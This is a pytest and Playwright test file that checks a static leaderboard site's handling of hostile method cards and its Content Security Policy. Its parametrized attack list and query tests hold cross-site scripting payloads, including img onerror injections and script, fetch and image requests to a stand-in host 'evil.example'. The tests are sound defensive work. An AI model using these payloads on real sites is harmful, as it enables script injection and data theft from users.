"""Hostile cards in a real browser: nothing runs, no other host is asked, nothing leaves its place."""

from __future__ import annotations

from typing import TYPE_CHECKING

import pytest

from tests.boards import ANCHORS, card
from tests.browser.conftest import built, served
from tests.browser.visits import Visit
from tests.hostile_cards import saved
from tests.test_hostile import let_through

if TYPE_CHECKING:
    from collections.abc import Iterator
    from pathlib import Path

    from playwright.sync_api import Browser, Page

PAGES = (
    *("", "leaderboard/", "leaderboard/survey/", "leaderboard/head-to-head/", "leaderboard/comparable/"),
    *("leaderboard/robustness/", "find/", "compare/?m=hostile-0,hostile-1,hostile-2", "try/", "methods/"),
    *(f"methods/hostile-{n}/" for n in range(3)),
    *("survey/evaluation/", "survey/references/", "survey/trends/"),
)
OVERFLOW = "document.documentElement.scrollWidth - document.documentElement.clientWidth"


@pytest.fixture(scope="module")
def strangers(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Yield the address of a site, with a repository, of methods that hold every text that gets through."""
    home = tmp_path_factory.mktemp("strangers")
    cards = saved(home / "methods", list(let_through()), *ANCHORS, card("random"))
    given = {"TEDD_CARDS": str(cards), "TEDD_REPOSITORY_URL": "https://github.com/example/tedd"}
    with served(built(home / "site", **given)) as found:
        yield found


def touch(page: Page) -> None:
    """Use a page as a reader would: open every fold, type into every search, choose, sort."""
    page.evaluate("for (const part of document.querySelectorAll('details')) part.open = true")
    page.evaluate("for (const head of document.querySelectorAll('th button')) head.click()")
    for field in page.locator("article input[type=search]:visible").all():
        field.fill("window")
        field.fill("")
    page.evaluate(
        "for (const row of document.querySelectorAll('article tr, article a'))"
        " for (const kind of ['mouseover', 'focus', 'pointerenter']) row.dispatchEvent(new Event(kind))"
    )


@pytest.mark.parametrize("path", PAGES)
def test_nothing_runs_and_nothing_breaks(browser: Browser, strangers: str, path: str) -> None:
    """No script of a card runs, no request leaves, the policy stops nothing, the page keeps its width."""
    visit = Visit(browser, strangers + path, viewport={"width": 390, "height": 844})
    touch(visit.page)
    visit.page.wait_for_timeout(100)

    assert visit.page.evaluate("window.pwned") is None
    assert visit.errors == []
    assert [url for url in visit.requests if not url.startswith((strangers, "data:", "blob:"))] == []
    assert visit.page.evaluate(OVERFLOW) == 0
    assert visit.page.locator("article [onmouseover], article [onfocus], article iframe").count() == 0
    visit.page.context.close()


@pytest.mark.parametrize(
    "path", ["", "leaderboard/", "leaderboard/survey/", "methods/", "methods/hostile-1/"]
)
def test_boards_keep_their_width(browser: Browser, strangers: str, path: str) -> None:
    """Where there is room for whole boards, no name makes one wider than the page."""
    visit = Visit(browser, strangers + path, viewport={"width": 1280, "height": 900})

    assert visit.page.evaluate(OVERFLOW) == 0
    visit.page.context.close()


def test_search_shows_text_as_text(browser: Browser, strangers: str) -> None:
    """The search finds hostile methods and shows their names as they are."""
    visit = Visit(browser, strangers, viewport={"width": 1280, "height": 900})
    visit.page.locator("input[name=query]").press_sequentially("window pwned", delay=20)
    visit.page.locator(".md-search-result__item").first.wait_for()
    visit.page.wait_for_timeout(200)

    assert visit.page.evaluate("window.pwned") is None
    assert visit.errors == []
    assert visit.page.locator(".md-search-result script, .md-search-result [onfocus]").count() == 0
    visit.page.context.close()


@pytest.mark.parametrize("path", ["leaderboard/?find={0}&sort={0}", "compare/?m={0}", "try/?name={0}"])
def test_addresses_run_nothing(browser: Browser, strangers: str, path: str) -> None:
    """A link with markup in its query shows text at most."""
    odd = "%22%3E%3Cimg%20src%3Dx%20onerror%3Dwindow.pwned%3D1%3E"
    visit = Visit(browser, strangers + path.format(odd))

    assert visit.page.evaluate("window.pwned") is None
    assert visit.page.locator("img[src=x]").count() == 0
    assert visit.errors == []
    visit.page.context.close()


# --- the pages' own policy --------------------------------------------------------------------------------


def test_every_page_has_a_policy(site: Path) -> None:
    """Every page forbids scripts in the page but for the two of the theme, before anything else is read."""
    for path in site.rglob("*.html"):
        head = path.read_text("utf-8").split("<script", 1)[0]
        policy = head.split('http-equiv="Content-Security-Policy" content="')[1].split('"')[0]
        scripts = next(part for part in policy.split("; ") if part.startswith("script-src"))
        assert "unsafe" not in scripts
        assert scripts.count("'sha256-") == 1
        assert "default-src 'none'" in policy


ADD = "document.body.insertAdjacentHTML('beforeend', `{}`); "
MAKE = "const made = document.createElement('{}'); made.{} = '{}'; document.head.append(made); "


@pytest.mark.parametrize(
    "attack",
    [
        MAKE.format("script", "textContent", "window.pwned=1"),
        MAKE.format("script", "src", "https://evil.example/x.js"),
        MAKE.format("script", "src", "data:text/javascript,window.pwned=1"),
        MAKE.format("base", "href", "https://evil.example/"),
        ADD.format("<img src=x: onerror=window.pwned=1>"),
        ADD.format("<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>"),
        ADD.format("<a id=x href=javascript:window.pwned=1>x</a>") + "document.getElementById('x').click()",
        "fetch('https://evil.example/').catch(() => 0)",
        "new Image().src = 'https://evil.example/x.png'",
    ],
)
def test_policy_stops_what_would_get_in(browser: Browser, address: str, attack: str) -> None:
    """Even where markup reached a page, no script in it would run and no request would leave."""
    visit = Visit(browser, address + "about/")
    assert visit.errors == []
    visit.page.evaluate(attack)
    visit.page.wait_for_timeout(150)

    assert visit.page.evaluate("window.pwned") is None
    assert "Content Security Policy" in " ".join(visit.errors)
    visit.page.context.close()
